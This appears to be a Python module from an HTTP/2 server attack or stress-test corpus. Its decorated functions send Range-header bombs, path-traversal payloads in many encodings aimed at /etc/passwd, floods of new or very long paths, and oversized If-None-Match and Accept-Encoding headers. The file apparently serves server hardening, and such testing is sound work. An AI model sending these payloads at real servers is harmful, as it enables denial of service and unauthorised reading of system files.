"""Requests that cost more than they look."""
import rawhpack
from corpus import KEPT, attack

GROUP = "requests"


@attack("range bombs", GROUP, KEPT)
def ranges(link):
    many = "bytes=" + ",".join("%d-" % i for i in range(1300))
    nested = "bytes=" + ",".join("0-%d" % i for i in range(1300))
    link.ask([(b"/assets/hero.jpg", rawhpack.literal("range", text)) for text in (many, nested) * 100])


@attack("paths out of the root, in every encoding", GROUP, KEPT)
def traversal(link):
    ups = [b"..", b"%2e%2e", b".%2e", b"%252e%252e", b"..%2f", b"..%5c", b"%c0%ae%c0%ae",
           b"..;", b"%2e%2e%2f", b"..\\", b"%00..", b"....//"]
    link.ask([(b"/" + b"/".join([up] * depth) + b"/etc/passwd", b"")
                for up in ups for depth in (1, 3, 12)])


@attack("ever new paths", GROUP, KEPT)
def new_paths(link):
    link.ask([(b"/no/such/%d" % i, b"") for i in range(3000)])


@attack("long paths and queries", GROUP, KEPT)
def long_paths(link):
    link.ask([(b"/" + b"a" * 8000, b""), (b"/?" + b"q" * 20000, b""),
                (b"/" + b"%41" * 4000, b""), (b"/" + b"a/" * 4000, b"")] * 50)


@attack("conditional fields without end", GROUP, KEPT)
def conditionals(link):
    tags = ", ".join('"%d"' % i for i in range(2500))
    link.ask([(b"/", rawhpack.literal("if-none-match", tags))] * 200)


@attack("accept-encoding without end", GROUP, KEPT)
def codings(link):
    value = ",".join("c%d;q=0.%d" % (i, i % 10) for i in range(1500))
    link.ask([(b"/", rawhpack.literal("accept-encoding", value))] * 200)
